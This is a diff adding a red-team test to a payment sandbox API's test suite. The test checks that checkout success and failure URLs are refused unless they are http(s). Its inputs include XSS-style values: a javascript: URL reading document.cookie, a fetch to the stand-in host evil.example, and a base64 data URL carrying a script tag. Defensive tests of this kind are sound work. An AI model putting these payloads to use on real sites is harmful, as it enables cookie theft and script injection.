@@ -171,6 +171,21 @@ describe.each(testEngines)("the sandbox's state and limits ($name)", (engine) =>
     expect(price.body.error.param).toBe("product");
   });
 
+  it("refuses return URLs that are not http(s), as a script or data URL (red team S6)", async () => {
+    const key = await newKey("pay");
+    const body = { amount: 4500, currency: "DZD", success_url: "https://shop.example/thanks", failure_url: "http://shop.example/cart" };
+    expect((await call("/pay/v1/checkouts", { method: "POST", key, body })).status).toBe(201);
+    for (const [field, url] of [
+      ["success_url", "javascript:alert(document.cookie)//"],
+      ["failure_url", "JavaScript:fetch('//evil.example/')"],
+      ["success_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
+      ["failure_url", `https://shop.example/${"x".repeat(2048)}`],
+    ]) {
+      const refused = await call("/pay/v1/checkouts", { method: "POST", key, body: { ...body, [field!]: url } });
+      expect([refused.status, refused.body.error.param]).toEqual([400, field]);
+    }
+  });
+
   it("updates a payment link", async () => {
     const key = await newKey("pay");
     const link = (await call("/pay/v1/payment-links", { method: "POST", key, body: { name: "Rug", amount: 12000, currency: "DZD" } })).body;
